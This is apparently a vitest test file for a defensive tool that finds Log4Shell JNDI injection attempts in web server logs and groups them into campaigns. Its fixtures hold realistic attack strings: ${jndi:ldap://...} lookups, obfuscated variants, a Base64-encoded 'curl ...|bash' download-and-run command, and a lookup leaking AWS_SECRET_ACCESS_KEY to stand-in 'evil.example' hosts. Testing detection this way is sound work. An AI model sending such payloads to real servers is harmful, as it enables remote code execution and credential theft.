import { createHash } from 'node:crypto'
import { expect, test } from 'vitest'
import { huntIn } from '../../../test/kit/hunting.ts'
import type { AttackFinding, Campaign } from '../../core/index.ts'
import { Campaigns } from './campaigns.ts'

const digest = (text: string): string => createHash('sha256').update(text).digest('hex')

function campaignsOf(findings: readonly AttackFinding[]): readonly Campaign[] {
  const campaigns = new Campaigns(digest)
  for (const finding of findings) campaigns.add(finding)
  return campaigns.list()
}

const line = (payload: string, from = '203.0.113.83', time = '12:43:11'): string =>
  `${from} - - [10/Dec/2021:${time} +0000] "GET / HTTP/1.1" 200 612 "-" "${payload}"\n`
const commandFor = (target: string): string =>
  `Basic/Command/Base64/${Buffer.from(`curl 198.51.100.66:5874/${target}:80|bash`).toString('base64')}`

test('attacks that differ in what each has of its own are one campaign', () => {
  const log =
    line(`\${jndi:ldap://198.51.100.66:12344/${commandFor('192.0.2.1')}}`, '203.0.113.1', '12:00:00') +
    line(`\${\${lower:j}ndi:ldap://198.51.100.66:12344/${commandFor('192.0.2.77')}}`, '203.0.113.2', '13:00:00') +
    line(`\${jndi:rmi://198.51.100.66:12344/${commandFor('192.0.2.1')}}`, '203.0.113.2', '14:00:00')

  const [campaign, ...others] = campaignsOf(huntIn(log).findings)

  expect(others).toEqual([])
  expect(campaign).toMatchObject({
    host: '198.51.100.66',
    port: 12_344,
    path: 'Basic/Command/Base64/*',
    command: 'curl */*|bash',
    schemes: ['ldap', 'rmi'],
    attacks: 3,
    outcome: 'attempt',
    firstSeen: Date.UTC(2021, 11, 10, 12),
    lastSeen: Date.UTC(2021, 11, 10, 14),
    sources: {
      names: [
        { name: '203.0.113.2', count: 2 },
        { name: '203.0.113.1', count: 1 },
      ],
      others: 0,
    },
    targets: { names: [{ name: 'a.log', count: 3 }], others: 0 },
  })
  expect(campaign?.techniques.names).toContainEqual({ name: 'lookups in lookups', count: 1 })
})

test.each([
  [
    'names made for one request',
    'ldap://c6roi3ia89k5kj1mes60.evil.example/a',
    'ldap://c6rokzaa89k5kj1mes7g.evil.example/a',
    1,
  ],
  ['values of the process', 'ldap://${env:USER}.evil.example/a', 'ldap://${env:HOME}.evil.example/a', 1],
  ['letters of a host', 'ldap://evil.example/a', 'ldap://Evil.Example/a', 1],
  ['another host', 'ldap://evil.example/a', 'ldap://other.example/a', 2],
  ['another port', 'ldap://evil.example:1/a', 'ldap://evil.example:2/a', 2],
  ['another path', 'ldap://evil.example/a', 'ldap://evil.example/b', 2],
])('%s', (_case, one, other, count) => {
  expect(campaignsOf(huntIn(line(`\${jndi:${one}}`) + line(`\${jndi:${other}}`)).findings)).toHaveLength(count)
})

test('the same campaign has the same id in another run', () => {
  const findings = huntIn(line('${jndi:ldap://evil.example/a}')).findings

  expect(campaignsOf(findings)[0]?.id).toBe(campaignsOf([...findings, ...findings])[0]?.id)
})

test('the furthest comes first, then the largest; secrets to rotate are named', () => {
  const findings = huntIn(
    line('${jndi:ldap://a.example/a}').repeat(3) +
      line('${jndi:ldap://b.example/a}').repeat(2) +
      line('${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.c.example/a}'),
  ).findings
  const seen = findings.map((each) =>
    each.lookup.host === 'b.example' ? ({ ...each, outcome: 'callback-seen' } as const) : each,
  )

  const campaigns = campaignsOf(seen)

  expect(campaigns.map(({ host, outcome, callbackSeen }) => [host, outcome, callbackSeen])).toEqual([
    ['b.example', 'callback-seen', 2],
    ['a.example', 'attempt', 0],
    ['*.c.example', 'attempt', 0],
  ])
  expect(campaigns[2]?.secrets).toEqual(['env:AWS_SECRET_ACCESS_KEY'])
})

test('what asks nobody is of no campaign', () => {
  expect(campaignsOf(huntIn('${jndi:java:comp/env} ${${::-j}${::-n}di:}\n').findings)).toEqual([])
})

test('however many there are, memory is bounded, and what is not told apart is counted', () => {
  const [finding] = huntIn(line('${jndi:ldap://evil.example/a}')).findings
  const campaigns = new Campaigns(digest)
  for (let i = 0; i < 1_200; i++) {
    const lookup = {
      ...finding!.lookup,
      meaning: `m${i}`,
      host: `h-${'x'.repeat(i % 50)}${'y'.repeat(i / 50)}.example`,
    }
    campaigns.add({ ...finding!, lookup, from: `192.0.2.${i}` })
  }
  for (let i = 0; i < 100; i++) campaigns.add({ ...finding!, from: `198.51.100.${i}` })

  expect(campaigns.list()).toHaveLength(1_000)
  expect(campaigns.unplaced).toBe(300)
})
